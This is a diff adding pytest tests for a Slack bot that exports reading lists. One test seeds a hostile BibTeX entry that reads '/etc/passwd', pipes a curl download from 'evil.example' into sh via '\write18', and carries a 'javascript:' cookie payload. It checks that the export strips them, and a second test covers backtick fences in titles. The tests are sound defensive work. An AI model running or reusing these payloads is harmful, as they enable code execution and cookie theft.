@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 from tests.support.block_checks import problems
 from tests.support.fake_slack import FakeSlack
 from tests.support.seed_ids import DEFENSIVE_KV, VEGAS
 from tests.support.slack_clicks import press
-from tests.support.slack_harness import SlackHttp, buttons, texts
+from tests.support.slack_harness import SlackHttp, buttons, serving, texts
 from tests.team.bibparse import parse_bibtex, parse_csv
 
 
@@ -201,3 +202,58 @@ def test_an_export_names_the_papers_gone_from_the_index(slack_http: SlackHttp, f
     fake.wait_for("files.completeUploadExternal", ok=True)
     [sent] = fake.shared_files()
     assert len(parse_bibtex(sent.text)) == 1
+
+
+# --------------------------------------------------------------------------- exports of hostile lists (issue 39)
+
+HOSTILE_BIB = (
+    "@inproceedings{pwn2026, title={\\input{/etc/passwd}}, author={Eve}, year={2026}, "
+    "booktitle={\\immediate\\write18{curl https://evil.example/x | sh}}, url={javascript:alert(document.cookie)}}"
+)
+ABSTRACT = "We make tokenizers robust to code, and measure how much they keep on real repositories. " * 3
+
+
+def test_a_lists_own_bibtex_never_reaches_the_export_or_the_reply(fake: FakeSlack, tmp_path: Path) -> None:
+    paper = {
+        "id": "EVILBIB1",
+        "title": "Robust Tokenizers for Code",
+        "abstract": ABSTRACT,
+        "authors": ["Ada Lovelace"],
+        "url": "https://openreview.net/forum?id=EVILBIB1",
+        "bibtex": HOSTILE_BIB,
+    }
+    with serving(fake, tmp_path, [paper]) as served:
+        served.command("list add EVILBIB1")
+        reply = served.command("list export bibtex").json()
+        fake.wait_for("files.completeUploadExternal", ok=True)
+        [sent] = fake.shared_files()
+    assert "```@inproceedings" in texts(reply)  # the reply's code block: the bot's entry
+    for shown in (texts(reply), sent.text):
+        for bad in ("\\input", "\\immediate", "\\write18", "javascript:", "/etc/passwd", "evil.example"):
+            assert bad not in shown
+    [entry] = parse_bibtex(sent.text)
+    assert (entry.key, entry.title, entry.authors) == ("pwn2026", "Robust Tokenizers for Code", ["Ada Lovelace"])
+    assert entry.fields["url"] == "https://openreview.net/forum?id=EVILBIB1"
+
+
+def test_a_title_with_backticks_cannot_end_the_replys_code_block(fake: FakeSlack, tmp_path: Path) -> None:
+    paper = {
+        "id": "TICKS001",
+        "title": "Fenced ``` *Out* of the Block ``` and <!here> @channel",
+        "abstract": ABSTRACT,
+        "authors": ["Ada Lovelace"],
+    }
+    with serving(fake, tmp_path, [paper]) as served:
+        served.command("list add TICKS001")
+        replies = [served.command(f"list export {kind}").json() for kind in ("bibtex", "csv", "md")]
+        fake.wait_for("files.completeUploadExternal", count=3, ok=True)
+        files = fake.shared_files()
+    for reply in replies:
+        assert problems(reply) == []
+        assert "Sending 1 paper as `icml-reading-list." in texts(reply)
+        for block in reply["blocks"]:
+            text = block["text"]["text"]
+            fences = text.count("```")
+            assert fences == 0 or (fences == 2 and text.startswith("```") and text.endswith("```")), text
+    assert [len(parse_bibtex(files[0].text)), len(parse_csv(files[1].text)[1])] == [1, 1]  # the files hold it whole
+    assert "Fenced ``` Out of the Block ```" in parse_csv(files[1].text)[1][0]["title"]
